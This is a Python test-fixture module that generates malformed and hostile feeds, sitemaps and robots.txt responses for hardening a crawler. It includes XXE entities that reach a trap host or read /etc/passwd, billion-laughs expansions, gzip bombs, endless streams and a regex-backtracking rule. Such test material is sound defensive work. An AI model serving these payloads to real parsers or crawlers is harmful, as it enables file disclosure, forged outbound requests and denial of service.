"""Feeds, sitemaps, sections and robots.txt files that are made to hurt who reads them."""

import gzip
from collections.abc import Iterator

from hostile.pages import MB
from hostile.server import Answer, endlessly, http, slowly, to

RSS = "application/rss+xml"
XML = "application/xml"
SPACE = 'xmlns="http://www.sitemaps.org/schemas/sitemap/0.9"'
_LAUGHS = "".join(f'<!ENTITY l{n} "{f"&l{n - 1};" * 10}">' for n in range(1, 12))
_OPEN = b"HTTP/1.1 200 OK\r\nContent-Type: application/xml\r\nConnection: close\r\n\r\n"


def rss(items: str, doctype: str = "") -> str:
    return f'<?xml version="1.0"?>{doctype}<rss version="2.0"><channel><title>T</title>{items}</channel></rss>'


def urlset(items: str, doctype: str = "") -> str:
    return f'<?xml version="1.0"?>{doctype}<urlset {SPACE}>{items}</urlset>'


def doctypes(trap: str) -> Iterator[tuple[str, str]]:
    """XML that declares more than it should."""
    yield "external entity", f'<!DOCTYPE r [<!ENTITY x SYSTEM "http://{trap}/x">]>'
    yield "entity of a file", '<!DOCTYPE r [<!ENTITY x SYSTEM "file:///etc/passwd">]>'
    yield "external document type", f'<!DOCTYPE r SYSTEM "http://{trap}/x.dtd">'
    yield "parameter entity", f'<!DOCTYPE r [<!ENTITY % p SYSTEM "http://{trap}/p"> %p;]>'
    yield "billion laughs", f'<!DOCTYPE r [<!ENTITY l0 "ha">{_LAUGHS}]>'
    yield "quadratic blow-up", f'<!DOCTYPE r [<!ENTITY l11 "{"a" * 100_000}">]>'


def feeds(trap: str) -> Iterator[tuple[str, Answer]]:
    """Feeds by what is wrong with them."""
    for name, doctype in doctypes(trap):
        yield (
            f"feed: {name}",
            http(
                rss("<item><title>&x;&l11;</title><link>http://x.example/1</link></item>", doctype),
                RSS,
            ),
        )
    yield "feed: endless", endlessly(_OPEN, b"<item><title>on and on</title></item>")
    yield "feed: dripping", slowly(_OPEN, pause=1, for_ever=b"<item/>")
    yield (
        "feed: bomb",
        http(gzip.compress(b"<rss>" + b" " * (120 * MB)), RSS, "200 OK", "Content-Encoding: gzip"),
    )
    yield "feed: deep", http("<rss>" + "<a>" * 100_000, RSS)
    yield (
        "feed: author without end",
        http(rss("<item><author>" + "a (" * 60_000 + "</author><link>x</link></item>")[:-8], RSS),
    )
    yield (
        "feed: broken and long",
        http(rss("<item><title>a & b</title><link>http://x.example/a</link></item>" * 20_000), RSS),
    )
    yield (
        "feed: a hundred thousand entries",
        http(rss("<item><link>file:///x</link></item>" * 100_000), RSS),
    )
    yield "feed: a page", http("<!doctype html><html><p>we moved", "text/html")
    yield "feed: binary", http(bytes(range(256)) * 500, RSS)
    yield "feed: empty", http(b"", RSS)
    yield "feed: JSON in depth", http("[" * 300_000, "application/json")
    yield (
        "feed: JSON of odd kinds",
        http(
            '{"items": [null, 1, "x", {"url": {"a": 1}}, {"url": "javascript:x"}]}',
            "application/feed+json",
        ),
    )
    yield (
        "feed: JSON of halves of letters",
        http(
            r'{"title": "\ud800", "items": [{"url": "http://x.example/\udfff", "title": "half \ud83d"}]}',
            "application/feed+json",
        ),
    )
    yield (
        "feed: JSON number without end",
        http(
            '{"items": [{"url": "http://x.example/", "date_published": ' + "1" * 90_000 + "}]}",
            "application/json",
        ),
    )
    yield "feed: redirects to itself", to("/feed-loop")
    yield (
        "feed: dates of nonsense",
        http(
            rss(
                "".join(
                    f"<item><link>nowhere</link><pubDate>{d}</pubDate></item>"
                    for d in (
                        "99999999999999",
                        "9" * 5000,
                        "Mon, 99 Foo 9999 99:99:99",
                        "-1",
                        "2026-13-45",
                    )
                )
            ),
            RSS,
        ),
    )
    yield (
        "feed: title of megabytes",
        http(rss(f"<item><title>{'&lt;b&gt;' * 300_000}</title><link>nowhere</link></item>"), RSS),
    )
    yield "feed: wide letters", http(rss("<item><title>wide</title></item>").encode("utf-16"), RSS)
    yield (
        "feed: lying charset",
        http(b'<?xml version="1.0" encoding="utf-7"?><rss><channel>+ADw-</channel></rss>', RSS),
    )


def sitemaps(trap: str, base: str) -> Iterator[tuple[str, Answer]]:
    """Sitemaps by what is wrong with them."""
    for name, doctype in doctypes(trap):
        yield f"sitemap: {name}", http(urlset("<url><loc>&x;&l11;</loc></url>", doctype), XML)
    nested = gzip.compress(gzip.compress(b"<urlset>" + b" " * (80 * MB)))
    yield "sitemap: bomb", http(gzip.compress(b"<urlset>" + b" " * (120 * MB)), "application/gzip")
    yield (
        "sitemap: bomb in a bomb",
        http(nested, "application/gzip", "200 OK", "Content-Encoding: gzip"),
    )
    yield "sitemap: endless", endlessly(_OPEN, b"<url><loc>http://x.example/</loc></url>")
    yield (
        "sitemap: index of itself",
        http(
            f"<sitemapindex {SPACE}><sitemap><loc>{base}/index-of-itself</loc></sitemap></sitemapindex>",
            XML,
        ),
    )
    yield (
        "sitemap: index without end",
        http(
            f"<sitemapindex {SPACE}>"
            + "".join(f"<sitemap><loc>{base}/more/{n}</loc></sitemap>" for n in range(60))
            + "</sitemapindex>",
            XML,
        ),
    )
    yield "sitemap: deep", http(f"<urlset {SPACE}>" + "<url>" * 100_000, XML)
    yield "sitemap: a page", http("<html><body>none", "text/html")
    yield "sitemap: text without end", http("no address here\n" * 500_000, "text/plain")
    yield (
        "sitemap: addresses of odd kinds",
        http(
            urlset(
                "".join(
                    f"<url><loc>{u}</loc></url>"
                    for u in (
                        "file:///etc/passwd",
                        "javascript:x",
                        "http://",
                        "//",
                        "http://[",
                        "x" * 9_000,
                    )
                )
            ),
            XML,
        ),
    )
    yield (
        "sitemap: half a million pages",
        http(urlset("<url><loc>gopher://x.example/1</loc></url>" * 500_000), XML),
    )
    yield (
        "sitemap: gzip cut short",
        http(gzip.compress(b"<urlset>" * 9_000)[:-30], "application/gzip"),
    )


def robots() -> Iterator[tuple[str, Answer, bool]]:
    """robots.txt files, and whether the host's articles may be read all the same."""
    text = "text/plain"
    rules = "".join(f"Disallow: /{n:07}\n" for n in range(60_000))
    yield "robots: endless", endlessly(_OPEN, b"# on and on\n"), True
    yield "robots: dripping", slowly(_OPEN, pause=1, for_ever=b"# drip\n"), False
    yield "robots: huge", http("# nothing\n" * 3_000_000, text), True
    yield "robots: rules without end", http(f"User-agent: *\n{rules}", text), True
    yield (
        "robots: backtracking",
        http("User-agent: *\nDisallow: /" + "*a" * 100_000 + "b$", text),
        True,
    )
    yield "robots: one line of megabytes", http("Disallow: /" + "a" * 3_000_000, text), True
    yield "robots: binary", http(bytes(range(256)) * 2_000, text), True
    yield "robots: a page", http("<!doctype html><html><p>Disallow: /", "text/html"), True
    yield "robots: loop", to("/robots.txt"), True
    yield "robots: to a file", to("file:///etc/passwd"), True
    yield "robots: crawl-delay of a year", http("User-agent: *\nCrawl-delay: 31536000", text), True
    yield (
        "robots: crawl-delay of nonsense",
        http("User-agent: *\nCrawl-delay: nan\nCrawl-delay: -1e999", text),
        True,
    )
    yield "robots: closed", http("User-agent: *\nDisallow: /", text), False
    yield "robots: fails", http("oops", text, "500 Oops"), False
    yield "robots: hangs up", b"", False
    yield "robots: missing", http("no", text, "404 Not Found"), True
    yield (
        "robots: bomb",
        http(gzip.compress(b"# " + b" " * (60 * MB)), text, "200 OK", "Content-Encoding: gzip"),
        False,
    )
